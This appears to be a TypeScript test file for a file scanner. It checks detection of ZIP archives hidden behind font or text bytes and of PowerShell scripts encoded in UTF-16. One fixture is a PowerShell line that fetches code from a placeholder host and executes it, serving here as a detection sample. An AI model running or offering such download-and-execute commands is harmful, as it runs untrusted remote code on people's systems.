import assert from 'node:assert/strict';
import { createScan } from '../../../domain/scan/scan.js';

function rulesOf(path: string, bytes: Buffer): string[] {
  const scan = createScan();
  scan.file(path, bytes);
  return scan.result().flags.map(({ rule }) => rule);
}

/** The list of an archive with one entry, and the record at its end. */
function zipEnd(): Buffer {
  const list = Buffer.alloc(52);
  list.write('PK\x01\x02', 'latin1');
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt32LE(list.length, 12);
  return Buffer.concat([list, end]);
}

describe('what stands behind other bytes (decisions §5)', () => {
  it('is an archive behind a font, whatever the font is called', () => {
    const font = Buffer.concat([Buffer.from('wOF2\0\x01\0\0', 'latin1'), Buffer.alloc(200), zipEnd()]);
    assert.deepEqual(rulesOf('icons.woff2', font), ['stray_file']);
    assert.deepEqual(rulesOf('icons.woff2', font.subarray(0, 208)), []);
  });

  it('is an archive behind words', () => {
    assert.deepEqual(rulesOf('words.dat', Buffer.concat([Buffer.from('en de fr\n'.repeat(9)), zipEnd()])), [
      'stray_file',
    ]);
  });

  it('is a script of PowerShell in UTF-16', () => {
    const text = "& ([scriptblock]::Create((iwr 'https://tools.example.net/a').Content))\r\n";
    const marked = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    assert.ok(rulesOf('a.ps1', marked).includes('executable'));
    assert.ok(rulesOf('a.ps1', Buffer.from(text, 'utf16le')).includes('executable'));
    assert.ok(rulesOf('a.ps1', Buffer.from(marked).swap16()).includes('executable'));
  });
});
